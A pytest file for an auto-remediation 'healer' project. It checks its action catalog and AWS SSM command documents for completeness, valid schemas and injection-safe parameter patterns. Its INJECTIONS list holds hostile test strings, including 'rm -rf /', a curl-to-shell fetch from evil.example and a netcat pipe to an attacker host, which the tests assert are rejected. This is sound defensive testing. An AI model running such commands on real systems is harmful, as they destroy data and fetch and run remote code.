"""The action catalog and the project's SSM documents: complete, valid, injection-proof."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from healer.cases import load_answer_key
from healer.catalog import RUNBOOKS_DIR, default_catalog
from healer.domain import ActionId, ExecutorKind
from knowledge_base.runbooks import load_runbooks

CASES = Path(__file__).resolve().parents[1] / "evals" / "cases"
SSM_DIR = RUNBOOKS_DIR / "ssm"
INJECTIONS = [
    "nginx; rm -rf /",
    "$(curl http://evil.example/x.sh | sh)",
    "`reboot`",
    "app\nrm -rf /",
    "/var/log/app; rm -rf /",
    "/var/log/../../etc",
    "/var/log/app && curl evil",
    "nginx | nc evil 4444",
    "x' ; shutdown -h now ; '",
    "",
]


def test_every_spec_action_is_in_the_catalog_with_what_an_executor_needs() -> None:
    catalog = default_catalog()
    for action in ActionId:
        spec = catalog[action]
        assert spec.description and spec.rollback and spec.verify_within_seconds > 0
        if spec.executor != ExecutorKind.AUTOSCALING:
            assert spec.document, f"{action} needs an SSM document"


def _fill_required(action: ActionId, params: dict[str, Any]) -> dict[str, Any]:
    """Parameters the healer computes from evidence, with a representative value."""
    computed = {
        ActionId.RESTART_SERVICE: {"service": "app"},
        ActionId.SCALE_OUT: {"count": 2},
        ActionId.RESIZE_INSTANCE: {"instance_type": "m5.xlarge"},
        ActionId.RAISE_CAPACITY_LIMIT: {"max": 10, "desired": 8},
    }.get(action, {})
    return computed | params


def test_every_runbook_action_exists_with_valid_parameters() -> None:
    catalog = default_catalog()
    runbooks = load_runbooks(RUNBOOKS_DIR)
    for runbook in runbooks:
        for option in runbook.actions:
            if option.action is None:
                assert option.decision is not None, f"{runbook.id}: `none` needs a decision"
                continue
            catalog[option.action].validate_params(_fill_required(option.action, option.params))


def test_every_case_expects_a_catalog_action_with_valid_literal_parameters() -> None:
    catalog = default_catalog()
    for path in sorted(CASES.glob("*.yaml")):
        remediation = load_answer_key(path)["expected"]["remediation"]
        options = [remediation, *remediation.get("alternatives", [])]
        for option in options:
            if option["action"] == "none":
                continue
            spec = catalog[ActionId(option["action"])]
            literal = {
                k: v for k, v in (option.get("params") or {}).items() if not isinstance(v, dict)
            }
            unknown = set(option.get("params") or {}) - set(spec.params)
            assert not unknown, f"{path.name}: unknown parameters {unknown}"
            spec.validate_params(_fill_required(spec.id, literal))


@pytest.mark.parametrize("value", INJECTIONS)
def test_catalog_patterns_reject_shell_injection(value: str) -> None:
    catalog = default_catalog()
    with pytest.raises(ValueError):
        catalog[ActionId.RESTART_SERVICE].validate_params({"service": value})
    with pytest.raises(ValueError):
        catalog[ActionId.CLEAR_DISK_SPACE].validate_params({"paths": [value]})
    with pytest.raises(ValueError):
        catalog[ActionId.RESIZE_INSTANCE].validate_params({"instance_type": value})


def _documents() -> dict[str, dict[str, Any]]:
    return {p.stem: yaml.safe_load(p.read_text()) for p in sorted(SSM_DIR.glob("*.yaml"))}


def test_the_projects_command_documents_are_ssm_schema_2_2_with_patterns() -> None:
    documents = _documents()
    assert {"RestartService", "CleanupDisk"} <= set(documents)
    catalog_documents = {spec.document for spec in default_catalog() if spec.document}
    assert {"RestartService", "CleanupDisk"} <= catalog_documents
    for name, document in documents.items():
        assert document["schemaVersion"] == "2.2", name
        assert document["mainSteps"][0]["action"] == "aws:runShellScript"
        for parameter in document["parameters"].values():
            assert parameter["allowedPattern"].startswith("^")
            assert parameter["allowedPattern"].endswith("$")


@pytest.mark.parametrize("value", INJECTIONS)
def test_document_patterns_reject_shell_injection(value: str) -> None:
    for name, document in _documents().items():
        for pname, parameter in document["parameters"].items():
            assert not re.fullmatch(parameter["allowedPattern"], value), (name, pname, value)


def test_document_patterns_accept_what_the_executor_sends() -> None:
    documents = _documents()
    restart = documents["RestartService"]["parameters"]["ServiceName"]["allowedPattern"]
    cleanup = documents["CleanupDisk"]["parameters"]
    assert re.fullmatch(restart, "app@web.service")
    assert re.fullmatch(cleanup["Paths"]["allowedPattern"], "/var/log/app /tmp")
    assert re.fullmatch(cleanup["OlderThanDays"]["allowedPattern"], "2")


@pytest.mark.parametrize("name", ["RestartService", "CleanupDisk"])
def test_document_scripts_are_valid_shell(name: str, tmp_path: Path) -> None:
    document = _documents()[name]
    script = "\n".join(document["mainSteps"][0]["inputs"]["runCommand"])
    for parameter in document["parameters"]:
        script = script.replace("{{ " + parameter + " }}", "/var/log/app")
    path = tmp_path / f"{name}.sh"
    path.write_text(script)
    assert subprocess.run(["bash", "-n", str(path)], capture_output=True).returncode == 0
